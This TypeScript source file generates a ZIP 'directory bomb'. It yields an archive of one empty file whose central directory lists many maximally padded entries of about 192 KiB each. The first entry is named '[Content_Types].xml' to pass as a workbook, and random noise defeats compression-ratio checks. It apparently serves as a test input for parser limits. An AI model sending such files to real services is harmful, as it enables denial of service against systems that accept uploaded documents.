import { randomBytes } from "node:crypto";

const NAME = "[Content_Types].xml";
/** The longest that the format knows. */
const LONGEST = 65_535;
/** Of each entry. Zeros alone would be refused for how well they pack. */
const NOISE = 1_024;

/** How large each entry of the directory is: by default as large as the format lets it be. */
interface EntryBytes {
  name?: number;
  extra?: number;
  comment?: number;
}

/** A ZIP of an empty file whose directory lists so many, with about 192 KiB an entry by default. */
export function* directoryBomb(
  entries: number,
  { name = LONGEST, extra = LONGEST, comment = LONGEST }: EntryBytes = {},
): Generator<Buffer> {
  const local = Buffer.alloc(30 + NAME.length);
  local.write("PK\x03\x04", "latin1");
  local.writeUInt16LE(NAME.length, 26);
  local.write(NAME, 30);
  yield local;
  let bytes = 0;
  for (let at = 0; at < entries; at += 1) {
    // The first has the name of its file, by which a workbook is known.
    const written = at === 0 ? NAME : `${at}`.padEnd(name, "x");
    const entry = directoryEntry(written, { extra, comment });
    bytes += entry.length;
    yield entry;
  }
  const end = Buffer.alloc(22);
  end.write("PK\x05\x06", "latin1");
  end.writeUInt16LE(entries, 8);
  end.writeUInt16LE(entries, 10);
  end.writeUInt32LE(bytes, 12);
  end.writeUInt32LE(local.length, 16);
  yield end;
}

function directoryEntry(written: string, bytes: { extra: number; comment: number }): Buffer {
  const name = Buffer.from(written);
  const extra = Buffer.alloc(bytes.extra);
  if (bytes.extra > 4) {
    extra.writeUInt16LE(0x9999, 0);
    extra.writeUInt16LE(bytes.extra - 4, 2);
  }
  const comment = Buffer.alloc(bytes.comment, "c");
  randomBytes(NOISE).copy(comment);
  const head = Buffer.alloc(46);
  head.write("PK\x01\x02", "latin1");
  head.writeUInt16LE(20, 4);
  head.writeUInt16LE(20, 6);
  head.writeUInt16LE(name.length, 28);
  head.writeUInt16LE(extra.length, 30);
  head.writeUInt16LE(comment.length, 32);
  return Buffer.concat([head, name, extra, comment]);
}
